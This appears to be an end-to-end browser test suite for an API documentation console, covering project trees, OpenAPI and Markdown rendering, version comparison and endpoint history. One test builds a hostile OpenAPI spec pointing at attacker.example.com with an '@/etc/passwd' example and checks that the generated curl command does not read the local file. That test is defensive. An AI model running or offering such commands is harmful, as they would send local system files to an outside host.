import { setTimeout as delay } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { testApp } from '../support/app.ts';
import { openConsole } from '../support/console.ts';
import { guideMarkdown, guideMarkdownNext, petstore31Json, petstoreNext } from '../support/documents.ts';

const app = await testApp();
const { admin, tab } = await openConsole(app);
const project = await admin.createProject();
const reader = await project.addMember('reader');

const LONG = `${'Name '.repeat(39)}Name`;
const ARABIC = 'واجهة الحيوانات';

const api = await project.createDocument({ name: 'Pets', relativePath: 'apis/v1/pets.yaml' });
const first = await api.publish({ content: petstore31Json, versionName: '1.0.0', changelog: 'All of it' });
const second = await api.publish({ content: petstoreNext, versionName: '2.0.0' });
const guide = await project.createDocument({ type: 'MARKDOWN', name: LONG, relativePath: 'guides/Guide.md' });
await guide.publish({ content: guideMarkdown, versionName: '1' });
const latestGuide = await guide.publish({ content: guideMarkdownNext, versionName: '2' });
await project.createDocument({ type: 'MARKDOWN', name: ARABIC, relativePath: `guides/${'long-'.repeat(36)}name.md` });

describe('projects and documents', () => {
  it('are created by those who have the permission, starting with a team', async () => {
    const page = await tab(admin, '/projects');
    await page.press('New team');
    await page.fill('Name', 'Pet shop');
    await page.press('Create team');
    await page.sees('The team Pet shop was created.');
    await page.press('Change a team');
    await page.fill('Name', 'Animal shop');
    await page.press('Save');
    await page.sees('The team Animal shop was saved.');
    await page.press('New project');
    await page.fill('Name', 'Shop');
    await page.press('Create project');
    await page.sees('There is no document yet');
    await page.sees('Team Animal shop');
    await page.auditEverywhere('project-empty');
    await page.press('New document');
    await page.fill('Name', 'Pet API');
    await page.fill('Path', 'apis/pets.yaml');
    await page.press('Create document');
    await page.sees('Nothing is published on this branch');
    await page.press('Branches');
    await page.press('New branch');
    await page.fill('Name', 'owners');
    await page.press('Create branch');
    await page.sees('feature/');
    await page.fill('Name', 'feature/owners');
    await page.press('Create branch');
    await page.press('Change feature/owners');
    await page.press('Protect');
    await page.sees('Protected');
    expect(page.noise).toEqual([]);
    await page.auditEverywhere('branches');
  });

  it('are a tree by path, with long and right-to-left names', async () => {
    const page = await tab(reader, '/projects');
    await page.auditEverywhere('projects');
    expect(await page.text()).not.toMatch(/Change a team|New project/);
    await page.go(`/projects/${project.id}`);
    await page.sees(ARABIC);
    expect(await page.read(`document.querySelectorAll('.tree-folder').length`)).toBe(3);
    expect(await page.text()).not.toContain('New document');
    await page.auditEverywhere('project');
    await page.fill('Search documents', 'pets');
    await page.sees('1 document');
    // The next page takes longer to load than the delay of the filter, which must not cancel the click.
    await page.page.setRequestInterception(true);
    page.page.on(
      'request',
      request => void delay(request.resourceType() === 'script' ? 300 : 0).then(() => request.continue()),
    );
    await page.press('Pets');
    await page.sees('2.0.0');
    await page.auditEverywhere('document');
    expect(page.noise).toEqual([]);
  });

  it('fit the narrowest window, however deep their folders are', async () => {
    const deep = await admin.createProject();
    await deep.createDocument({ relativePath: `${'a-long-folder-name/'.repeat(20)}deep.yaml` });
    const page = await tab(admin, `/projects/${deep.id}`);
    await page.look({ width: 320 });
    await page.sees('deep.yaml');
    expect(await page.read('document.documentElement.scrollWidth - innerWidth')).toBe(0);
    const narrowest =
      "Math.min(...[...document.querySelectorAll('.tree .name')].map(one => one.clientWidth || one.offsetWidth))";
    expect(await page.read<number>(narrowest)).toBeGreaterThan(60);
    await page.auditEverywhere('project-deep');
  });

  it('of a thousand are shown at once', async () => {
    const large = await admin.createProject();
    const rows = Array.from({ length: 1_000 }, (_, index) => ({
      ...{ id: crypto.randomUUID(), projectId: large.id, createdById: admin.id, documentType: 'MARKDOWN' as const },
      ...{ name: `Text ${index}`, relativePath: `part-${index % 20}/text-${index}.md` },
      relativePathKey: `part-${index % 20}/text-${index}.md`,
    }));
    await app.services.db.document.createMany({ data: rows as never });
    const page = await tab(admin, `/projects/${large.id}`);
    await page.sees('1000 documents');
    expect(await page.read(`document.querySelectorAll('.tree-folder').length`)).toBe(20);
    await page.press('part-7 50');
    await page.sees('Text 7');
    expect(await page.read(`document.querySelectorAll('.tree-document').length`)).toBe(50);
    await page.shot('tree-1000');
    await page.fill('Search documents', 'Text 99');
    await page.sees('11 documents');
    await page.sees('Text 990');
  });

  it('of one folder are shown in part at first, and the focus goes on with the first of the others', async () => {
    const large = await admin.createProject();
    const rows = Array.from({ length: 202 }, (_, index) => ({
      ...{ id: crypto.randomUUID(), projectId: large.id, createdById: admin.id, documentType: 'MARKDOWN' as const },
      ...{ name: `Text ${1000 + index}`, relativePath: `${1000 + index}.md`, relativePathKey: `${1000 + index}.md` },
    }));
    await app.services.db.document.createMany({ data: rows as never });
    const page = await tab(admin, `/projects/${large.id}`);
    await page.press('Show all 202');
    await page.until("document.activeElement.innerText.startsWith('Text 1200')");
    expect(page.noise).toEqual([]);
  });
});

describe('a document', () => {
  it('says that it has no such branch, and offers its other branches', async () => {
    const page = await tab(reader, `/documents/${api.id}?branch=01a20000-0000-7000-8000-000000000000`);
    await page.sees('This document has no such branch');
    await page.misses('Nothing is published');
    await page.auditEverywhere('no-branch');
    await page.page.select('select', api.branches.dev ?? '');
    await page.sees('2.0.0');
    expect(page.noise).toEqual([]);
  });
});

describe('a version', () => {
  it('of OpenAPI is a reference by tag and operation', async () => {
    const page = await tab(reader, `/versions/${second.id}`);
    await page.press('POST /pets Create a pet');
    await page.sees('Request body');
    await page.auditEverywhere('reference');
    await page.fill('Filter operations', 'nothing like this');
    await page.sees('Nothing found');
    await page.press('Source');
    await page.until(
      `[...document.querySelectorAll('*')].some(one => one.shadowRoot?.textContent.includes('openapi'))`,
    );
    await page.auditEverywhere('source');
    expect(page.noise).toEqual([]);
  });

  it('shows the status of a response in one line, however long its description is', async () => {
    const described = await project.createDocument({ name: 'Described' });
    const content = petstore31Json.replace('"Pets"', JSON.stringify('All the pets of the shop. '.repeat(40)));
    const version = await described.publish({ content });
    const page = await tab(reader, `/versions/${version.id}`);
    await page.press('GET /pets List pets');
    await page.sees('All the pets of the shop.');
    const lines = "document.querySelector('.response strong').getClientRects().length";
    expect(await page.read(lines)).toBe(1);
    await page.look({ width: 320 });
    expect(await page.read(lines)).toBe(1);
    expect(page.noise).toEqual([]);
  });

  it('shows many properties in part at first, and the focus goes on with the first of the others', async () => {
    const wide = await project.createDocument({ name: 'Wide' });
    const names = Array.from({ length: 102 }, (_, index) => [`field${1000 + index}`, { type: 'string' }]);
    const schema = { type: 'object', properties: Object.fromEntries(names) };
    const content = JSON.stringify({
      ...{ openapi: '3.1.0', info: { title: 'Wide', version: '1.0.0' } },
      paths: {
        '/rows': {
          get: {
            summary: 'List rows',
            responses: { 200: { description: 'Rows.', content: { 'application/json': { schema } } } },
          },
        },
      },
    });
    const version = await wide.publish({ content });
    const page = await tab(reader, `/versions/${version.id}`);
    await page.press('GET /rows List rows');
    await page.press('Show all 102');
    await page.until("document.activeElement.innerText.startsWith('field1100')");
    expect(page.noise).toEqual([]);
  });

  it('gives curl no example as the name of a file, which curl would read and send', async () => {
    const hostile = await project.createDocument({ name: 'Hostile' });
    const content = JSON.stringify({
      ...{ openapi: '3.1.0', info: { title: 'Hostile', version: '1.0.0' } },
      servers: [{ url: 'https://attacker.example.com' }],
      paths: {
        '/notes': {
          post: {
            summary: 'Send a note',
            requestBody: { content: { 'text/plain': { example: '@/etc/passwd' } } },
            responses: { 204: { description: 'Done.' } },
          },
        },
      },
    });
    const version = await hostile.publish({ content });
    const page = await tab(reader, `/versions/${version.id}`);
    await page.press('POST /notes Send a note');
    await page.read(
      "void Object.defineProperty(navigator, 'clipboard', { value: { writeText: async text => { window.copied = text; } } })",
    );
    await page.press('Copy as curl');
    await page.until('window.copied !== undefined');
    expect(await page.read('window.copied')).toBe(
      "curl -X POST 'https://attacker.example.com/notes' \\\n  -H 'Content-Type: text/plain' \\\n  --data-raw '@/etc/passwd'",
    );
  });

  it('of Markdown is the rendered text', async () => {
    const page = await tab(reader, `/versions/${latestGuide.id}`);
    await page.until(`document.querySelector('.prose :is(h2, h3, p)') !== null`);
    await page.auditEverywhere('markdown');
    await page.press('Changes');
    await page.sees('3 changes, 5 lines added, 1 removed.');
    await page.auditEverywhere('markdown-changes');
    expect(page.noise).toEqual([]);
  });

  it('is compared with one of another branch', async () => {
    const both = await project.createDocument();
    await both.publish({ content: petstore31Json, versionName: '1.0.0' });
    await both.publish({ content: petstoreNext, versionName: '2.0.0', branch: 'prod' });
    const page = await tab(admin, `/documents/${both.id}`);
    await page.press('Compare 1.0.0 with another version');
    await page.sees('Choose what to compare with');
    await page.auditEverywhere('compare-branches');
    await page.page.select('select', both.branches.prod);
    await page.press('Compare with 2.0.0');
    await page.sees('breaking');
    expect(await page.read('location.pathname')).toMatch(/^\/compare\//);
    expect(page.noise).toEqual([]);
  });

  it('shows the columns of tables as aligned as the text says', async () => {
    const sales = await project.createDocument({ type: 'MARKDOWN', name: 'Sales' });
    const { id } = await sales.publish({ content: '| a | b |\n|:-:|--:|\n| 1 | 2 |\n', versionName: '1' });
    const page = await tab(reader, `/versions/${id}`);
    const cell = (nth: number) => `getComputedStyle(document.querySelectorAll('.prose td')[${nth}]).textAlign`;
    await page.until("document.querySelectorAll('.prose td').length === 2");
    expect([await page.read(cell(0)), await page.read(cell(1))]).toEqual(['center', 'right']);
  });

  it('is compared with any other by two clicks, and the changelog can be copied', async () => {
    const page = await tab(reader, `/documents/${api.id}`);
    await page.press('Compare 2.0.0 with another version');
    await page.press('Compare with 1.0.0');
    await page.sees('1.0.0 to 2.0.0');
    await page.sees('Breaking');
    expect(new URL(page.page.url()).pathname).toBe(`/compare/${first.id}/${second.id}`);
    await page.sees('Copy the changelog');
    await page.auditEverywhere('compare');
    expect(page.noise).toEqual([]);
  });

  it('is not compared with one of another document, and says why', async () => {
    const page = await tab(reader, `/compare/${first.id}/${latestGuide.id}`);
    await page.sees('Only two versions of one document can be compared');
    expect(await page.text()).not.toContain('Try again');
    expect(page.noise).toEqual([]);
  });

  it('has endpoints, each with its history', async () => {
    const { endpoints } = await admin.ask<{ endpoints: { nodes: { id: string }[] } }>(
      'query($id: ID!) { version(id: $id) { endpoints(first: 1) { nodes { id } } } }',
      { id: second.id },
    );
    const page = await tab(reader, `/endpoints/${endpoints.nodes[0]?.id}`);
    await page.sees('Appeared');
    await page.auditEverywhere('endpoint');
    expect(page.noise).toEqual([]);
  });

  it('says of an operation since which version it is at its path, or in which it was changed last', async () => {
    const grown = await project.createDocument({ name: 'Grown' });
    const paths = (...all: [string, string][]) =>
      JSON.stringify({
        ...{ openapi: '3.1.0', info: { title: 'Grown', version: '1' } },
        paths: Object.fromEntries(
          all.map(([path, summary]) => [path, { get: { summary, responses: { 200: { description: summary } } } }]),
        ),
      });
    await grown.publish({ content: paths(['/a', 'A']), versionName: '1.0.0' });
    const { id } = await grown.publish({ content: paths(['/a', 'A'], ['/b', 'B']), versionName: '2.0.0' });
    await grown.publish({ content: paths(['/a', 'A'], ['/b', 'Other']), versionName: '3.0.0' });
    const page = await tab(reader, `/versions/${id}/operations`);
    const open = (path: string) =>
      page.until(`(one => one && (one.click(), true))([...document.querySelectorAll('.operation-link')]
        .find(({ textContent }) => textContent.includes('${path}')))`);
    await open('/a');
    await page.sees('At this path since 1.0.0');
    await open('/b');
    await page.sees('At this path since 2.0.0');
    await page.press('History');
    await page.sees('Changed');
    await page.go(`/documents/${grown.id}`);
    await page.press('3.0.0');
    await open('/b');
    await page.sees('Changed in 3.0.0');
    expect(page.noise).toEqual([]);
  });
});
